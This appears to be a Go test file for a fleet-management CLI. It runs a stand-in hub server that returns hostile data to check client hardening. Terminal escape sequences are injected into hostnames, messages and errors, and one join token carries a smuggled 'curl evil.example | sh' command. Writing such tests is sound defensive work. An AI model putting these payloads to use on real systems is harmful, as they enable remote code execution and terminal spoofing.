package main

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/rogpeppe/go-internal/testscript"

	"selvedge/schema/hubapi"
	"selvedge/schema/roster"
	"selvedge/schema/wire"
)

// evil is what a node might call itself, to act on the terminal of who looks.
const evil = "web\x1b]0;owned\x07\x1b[2J\nREADY"

const (
	goodToken = "selvedge_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	oldToken  = "selvedge_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"
)

// standIn answers as a hub does, with what no hub can be brought to say on demand: hostile
// texts, broken streams. It checks what it is asked.
type standIn struct {
	mu      sync.Mutex
	follows int
	watches int
	flaky   int // answers 503 so often
	pending []hubapi.Pending
}

// newHub starts one, and tells the digest of its CA.
func newHub(h *standIn) (srv *httptest.Server, ca string) {
	srv = httptest.NewUnstartedServer(h)
	srv.EnableHTTP2 = true
	srv.StartTLS()
	sum := sha256.Sum256(srv.Certificate().Raw)
	return srv, "sha256:" + hex.EncodeToString(sum[:])
}

// atHub starts one, and returns the environment of somebody who uses it.
func atHub(t *testing.T) []string {
	srv, ca := newHub(&standIn{pending: []hubapi.Pending{waitingNode("7KQ2-M9XD", "line-7kq2m9xd", 1)}})
	t.Cleanup(srv.Close)
	return append(os.Environ(), "SELVEDGE_HUB="+srv.URL, "SELVEDGE_CA="+ca, "SELVEDGE_TOKEN="+goodToken, "XDG_CONFIG_HOME="+t.TempDir())
}

// startHub starts one for a script: HUB, CA and CAFILE say where it is.
func startHub(e *testscript.Env) error {
	h := &standIn{flaky: 1, pending: waitingNodes()}
	srv, ca := newHub(h)
	e.Defer(srv.Close)
	e.Setenv("HUB", srv.URL)
	e.Setenv("CA", ca)
	e.Setenv("OTHERCA", "sha256:"+strings.Repeat("0", 64))
	e.Setenv("XDG_CONFIG_HOME", filepath.Join(e.WorkDir, ".config"))
	for _, name := range []string{"SELVEDGE_HUB", "SELVEDGE_TOKEN", "SELVEDGE_CA"} {
		e.Setenv(name, "")
	}
	cert := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
	if err := os.WriteFile(filepath.Join(e.WorkDir, "ca.pem"), cert, 0o600); err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(e.WorkDir, "token"), []byte(goodToken+"\n"), 0o600)
}

func problem(w http.ResponseWriter, status int, reason, detail string) {
	w.Header().Set("Content-Type", hubapi.MediaTypeProblem)
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(hubapi.Problem{Title: http.StatusText(status), Status: status, Reason: reason, Detail: detail})
}

func (h *standIn) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	flaky := h.flaky > 0 && r.Method == http.MethodGet
	if flaky {
		h.flaky--
	}
	h.mu.Unlock()
	switch token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "); {
	case flaky:
		problem(w, http.StatusServiceUnavailable, hubapi.ReasonUnavailable, "the hub is starting")
	case token == oldToken:
		problem(w, http.StatusUnauthorized, hubapi.ReasonUnauthorized, "the token expired on 2026-01-01")
	case token != goodToken:
		problem(w, http.StatusUnauthorized, hubapi.ReasonUnauthorized, "the token is not valid")
	default:
		h.serve(w, r)
	}
}

func answer(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(v)
}

func list[T any](w http.ResponseWriter, items ...T) {
	answer(w, hubapi.List[T]{Items: append([]T{}, items...), Total: len(items)})
}

func (h *standIn) serve(w http.ResponseWriter, r *http.Request) {
	path := strings.TrimPrefix(r.URL.Path, "/api/v1")
	switch r.Method + " " + path {
	case "GET /whoami":
		answer(w, hubapi.Whoami{Subject: "user:ana", Groups: []string{"platform"}, Token: "laptop", Expires: time.Now().Add(48 * time.Hour),
			Roles: []roster.Binding{{Name: "platform-admins", Role: "admin"}}})
	case "GET /summary":
		answer(w, fleetSummary(2))
	case "GET /nodes":
		h.nodes(w, r)
	case "GET /nodes/gw-1":
		answer(w, hubapi.NodeDetail{Node: testNodes()[0], PublicKey: "UDXU…", Report: &wire.Status{
			Machine: wire.Machine{Hostname: evil, OS: "Debian 12", Arch: "amd64", CPUs: 4, Memory: 4 << 30},
			State:   wire.State{Phase: "idle", Rejected: []wire.Rejected{{Generation: 6, Reason: "app web: not healthy in 20s"}}},
			Apps: []wire.App{{Name: "web", Healthy: true, Containers: []wire.Instance{{Name: "main", Image: "registry.example/web@sha256:00", State: "running", Healthy: true,
				Usage: &wire.Usage{CPU: 0.25, Memory: 64 << 20}}}}}}})
	case "GET /nodes/gw-2":
		answer(w, hubapi.NodeDetail{Node: testNodes()[1], Report: &wire.Status{Apps: []wire.App{{Name: "web"}, {Name: "db"}}}})
	case "GET /nodes/gw-1/logs", "GET /nodes/gw-2/logs", "GET /nodes/" + "gw-3" + "/logs":
		h.logs(w, r)
	case "GET /nodes/gw-1/exec":
		if r.URL.Query().Get("app") == "shell" {
			terminalExec(w, r)
			return
		}
		testExec(w, r)
	case "GET /nodes/gw-2/exec":
		problem(w, http.StatusForbidden, hubapi.ReasonDenied, "node gw-2 does not grant it; set remote: exec: true of the node in Git")
	case "POST /nodes/gw-1/restart":
		w.WriteHeader(http.StatusNoContent)
	case "POST /nodes/gw-2/restart":
		problem(w, http.StatusServiceUnavailable, hubapi.ReasonOffline, "node gw-2 is not connected; it was heard of 3m ago")
	case "GET /apps":
		if app := r.URL.Query().Get("app"); app != "" && app != "web" {
			list[hubapi.App](w)
			return
		}
		list(w, hubapi.App{Name: "web", Workspace: "folders/site-a/line-1", Scope: "folders/site-a", Nodes: 2, Healthy: 1})
	case "GET /instances":
		if q := r.URL.Query(); q.Get("labels") == "none=here" || q.Get("app") == "nothing" {
			list[hubapi.Instance](w)
			return
		}
		list(w, hubapi.Instance{Node: "gw-1", Workspace: "folders/site-a/line-1", App: "web", Instance: wire.Instance{Name: "main", State: "running", Healthy: true, Restarts: 4,
			LastExit: wire.LastExit{Code: 3, At: time.Now().Add(-5 * time.Minute)}, Usage: &wire.Usage{CPU: 0.5, Memory: 1 << 30}}},
			hubapi.Instance{Node: "gw-2", Workspace: "folders/site-a/line-1", App: "web", Stale: true, Instance: wire.Instance{Name: "main", State: "exited", ExitCode: 137}})
	case "GET /events", "GET /nodes/gw-1/events":
		q := r.URL.Query()
		events := []hubapi.Event{testEvent("2", "Unhealthy", "warning"), testEvent("1", "Started", "info")}
		list(w, slices.DeleteFunc(events, func(e hubapi.Event) bool {
			return q.Get("reason") != "" && q.Get("reason") != e.Reason || q.Get("folder") == "folders/none" ||
				slices.Index(severities, e.Severity) < slices.Index(severities, q.Get("severity"))
		})...)
	case "GET /changes":
		list(w, testChange())
	case "GET /changes/abc":
		c := testChange()
		c.Nodes = []hubapi.ChangeNode{{Node: "gw-1", Workspace: "folders/site-a/line-1", Generation: 7, State: "done"}}
		answer(w, c)
	case "GET /watch":
		h.watch(w, r)
	case "GET /guides":
		list(w, hubapi.Guide{Guide: roster.Guide{Name: "line-box", Scope: "folders/site-a/line-1", Prefix: "line-"}})
	case "POST /join-tokens":
		h.join(w, r)
	case "GET /pending":
		list(w, h.pending...)
	case "DELETE /pending/AAAA-BBBB":
		w.WriteHeader(http.StatusNoContent)
	case "GET /audit":
		if q := r.URL.Query(); q.Get("subject") == "user:nobody" || q.Get("operation") == "logs" || q.Get("node") == "gw-2" {
			list[hubapi.AuditEntry](w)
			return
		}
		list(w, hubapi.AuditEntry{Seq: 2, Subject: "user:ben", Operation: "exec", Outcome: hubapi.OutcomeRefused, Node: "gw-1", App: "web", Command: []string{"sh", "-c", evil}})
	default:
		problem(w, http.StatusNotFound, hubapi.ReasonNotFound, "there is no "+path+evil)
	}
}

func testNodes() []hubapi.Node {
	now := time.Now()
	return []hubapi.Node{
		{Name: "gw-1", Workspace: "folders/site-a/line-1", Labels: map[string]string{"role": "gateway"}, Status: hubapi.Ready, Connected: true, LastSeen: now.Add(-3 * time.Second),
			Wanted: wire.Ref{Generation: 7}, Applied: wire.Ref{Generation: 7}, LastGood: wire.Ref{Generation: 7}, Apps: 1, Healthy: 1, Version: "v0.4.0",
			Usage: &wire.Usage{CPU: 0.25, Load: 0.5, Memory: 1 << 30, MemoryLimit: 4 << 30, Disk: 10 << 30, DiskLimit: 40 << 30}},
		{Name: "gw-2", Workspace: "folders/site-a/line-1", Status: hubapi.NotReady, Why: evil, LastSeen: now.Add(-3 * time.Minute),
			Wanted: wire.Ref{Generation: 7}, Applied: wire.Ref{Generation: 6}, LastGood: wire.Ref{Generation: 5}, Apps: 2, Version: evil,
			Conditions: []wire.Condition{{Type: wire.ConditionRejected, Message: "generation 7 failed"}}},
		{Name: "gw-3", Workspace: "folders/site-a/line-2", Status: hubapi.Waiting},
	}
}

// nodes answers a page of one at a time.
func (h *standIn) nodes(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	if strings.Contains(q.Get("labels"), "((") {
		problem(w, http.StatusBadRequest, hubapi.ReasonInvalid, "labels: cannot be read")
		return
	}
	var match []hubapi.Node
	for _, n := range testNodes() {
		if q.Get("labels") == "none=here" || len(q["status"]) > 0 && q.Get("status") != string(n.Status) || q.Get("q") != "" && !strings.Contains(n.Name, q.Get("q")) {
			continue
		}
		match = append(match, n)
	}
	at := 0
	_, _ = fmt.Sscan(q.Get("continue"), &at)
	l := hubapi.List[hubapi.Node]{Total: len(match)}
	if at < len(match) {
		l.Items = match[at : at+1]
	}
	if at+1 < len(match) {
		l.Continue = fmt.Sprint(at + 1)
	}
	answer(w, l)
}

func fleetSummary(good int) hubapi.Summary {
	return hubapi.Summary{Platform: "Acme", Seen: roster.Commit{Hash: "abc", Subject: "web 2"}, InForce: roster.Commit{Hash: "abc", Subject: "web 2"},
		Nodes: 3, Converged: good - 1, Status: map[hubapi.Readiness]int{hubapi.Ready: good - 1, hubapi.NotReady: 3 - good, hubapi.Waiting: 1},
		Conditions: map[string]int{wire.ConditionRejected: 1, evil: 1},
		Workspaces: []hubapi.WorkspaceSummary{{Path: "folders/site-a/line-1", Nodes: 2, Converged: good - 1}}}
}

func testEvent(id, reason, severity string) hubapi.Event {
	at := time.Date(2026, 11, 24, 1, 0, 0, 0, time.UTC)
	if id == "2" {
		at = at.Add(time.Second)
	}
	return hubapi.Event{ID: id, Node: "gw-1", Received: at, Event: wire.Event{Reason: reason, Severity: severity, App: "web", Message: evil}}
}

func testChange() hubapi.Change {
	return hubapi.Change{Commit: roster.Commit{Hash: "abcdef0123456789", Subject: evil, Author: "Ana"}, At: time.Now().Add(-time.Hour), Touched: 2, Done: 1, Failed: 1}
}

// logs breaks off in the middle the first time that one is followed.
func (h *standIn) logs(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	say := func(second int, text string) {
		if q.Get("timestamps") == "true" {
			fmt.Fprintf(w, "2026-11-24T01:00:%02d.000000000Z ", second)
		}
		fmt.Fprintln(w, text)
		_ = http.NewResponseController(w).Flush()
	}
	if q.Get("agent") == "true" {
		fmt.Fprintln(w, "time=2026-11-24T01:00:00.000Z level=INFO msg=agent")
		return
	}
	switch q.Get("app") {
	case "gone":
		problem(w, http.StatusNotFound, hubapi.ReasonNotFound, "there is no app gone"+evil)
		return
	case "away":
		problem(w, http.StatusServiceUnavailable, hubapi.ReasonOffline, strings.Split(r.URL.Path, "/")[4]+" is not connected")
		return
	case "slow":
		say(1, "say how")
		<-r.Context().Done()
		return
	}
	if q.Get("follow") != "true" {
		text := "\x1b[31mred\x1b[0m from " + r.URL.Path + " " + q.Get("app") + " tail " + q.Get("tail")
		if q.Get("previous") == "true" {
			text += "previous"
		}
		if name := q.Get("container"); name != "" {
			text += " of " + name
		}
		say(1, text)
		return
	}
	h.mu.Lock()
	h.follows++
	n := h.follows
	h.mu.Unlock()
	if n == 1 {
		say(1, "one")
		say(2, "two")
		panic(http.ErrAbortHandler)
	}
	if q.Get("since") == "" {
		say(0, "asked for all of it again")
	}
	say(2, "two")
	say(3, "three")
}

// watch ends by other rights, and then by the token's end.
func (h *standIn) watch(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/event-stream")
	send := func(kind string, u hubapi.Update) {
		b, _ := json.Marshal(u)
		fmt.Fprintf(w, "event: %s\ndata: %s\n\n", kind, b)
		_ = http.NewResponseController(w).Flush()
	}
	h.mu.Lock()
	h.watches++
	first := h.watches%2 == 1
	h.mu.Unlock()
	s := fleetSummary(2)
	if !first {
		s = fleetSummary(3)
	}
	send("summary", hubapi.Update{Summary: &s})
	for _, id := range []string{"2", "3"} {
		if first || r.Header.Get("Last-Event-ID") < id {
			e := testEvent(id, "RolledBack", "error")
			send("event", hubapi.Update{Event: &e})
		}
	}
	if first {
		fmt.Fprintf(w, "event: end\ndata: {\"title\":\"rights changed\",\"status\":403,\"reason\":\"forbidden\",\"detail\":\"what user:ana may see changed in Git; ask again\"}\n\n")
		return
	}
	fmt.Fprintf(w, "event: end\ndata: {\"title\":\"unauthorized\",\"status\":401,\"reason\":\"unauthorized\",\"detail\":\"the token expired\"}\n\n")
}

func (h *standIn) join(w http.ResponseWriter, r *http.Request) {
	var q hubapi.JoinTokenRequest
	if json.NewDecoder(r.Body).Decode(&q) != nil || q.Guide != "line-box" && q.Guide != "evil" && !strings.HasPrefix(q.Guide, "sha256:") {
		problem(w, http.StatusNotFound, hubapi.ReasonNotFound, "no guide is named so")
		return
	}
	t := hubapi.JoinTokens{Hub: "https://hub.example:8443", CA: "sha256:" + strings.Repeat("a", 64), Fingerprint: "sha256:" + strings.Repeat("b", 64), Expires: time.Now().Add(time.Hour)}
	for i := range q.Count {
		t.Tokens = append(t.Tokens, fmt.Sprintf("token-of-16-bytes-%d", i))
	}
	if strings.HasPrefix(q.Guide, "sha256:") { // another root
		t.Fingerprint = q.Guide
	}
	if q.Guide == "evil" {
		t.Tokens[0] = "aaaaaaaaaaaaaaaa; curl evil.example | sh"
	}
	answer(w, t)
}

// testExec knows the commands echo, cat, fail and gone.
func testExec(w http.ResponseWriter, r *http.Request) {
	conn, err := websocket.Accept(w, r, nil)
	if err != nil {
		return
	}
	defer conn.CloseNow()
	q, ctx := r.URL.Query(), r.Context()
	say := func(channel byte, text string) {
		_ = conn.Write(ctx, websocket.MessageBinary, append([]byte{channel}, text...))
	}
	end := func(m hubapi.ExecMessage) {
		b, _ := json.Marshal(m)
		_ = conn.Write(ctx, websocket.MessageText, b)
		_ = conn.Close(websocket.StatusNormalClosure, "")
	}
	code := 0
	switch command := q["command"]; command[0] {
	case "echo":
		say(hubapi.ChannelOut, strings.Join(command[1:], "|")+q.Get("container")+"\n")
	case "cat":
		for {
			kind, b, err := conn.Read(ctx)
			if err != nil || kind == websocket.MessageText && strings.Contains(string(b), "eof") {
				break
			}
			if kind == websocket.MessageText {
				continue
			}
			say(hubapi.ChannelOut, string(b[1:]))
		}
	case "fail":
		say(hubapi.ChannelErr, "no\n")
		code = 42
	case "missing":
		end(hubapi.ExecMessage{Error: &wire.Error{Code: wire.CodeNotFound, Message: "no such command " + evil}})
		return
	case "gone":
		return
	}
	end(hubapi.ExecMessage{ExitCode: &code})
}

func TestConverged(t *testing.T) {
	for _, c := range []struct {
		s    hubapi.Summary
		want bool
	}{
		{hubapi.Summary{}, true},
		{fleetSummary(2), false},
		{fleetSummary(3), true},
		{hubapi.Summary{Error: "the commit is not in force"}, false},
	} {
		if got := converged(c.s); got != c.want {
			t.Errorf("converged(%+v) = %v", c.s, got)
		}
	}
}
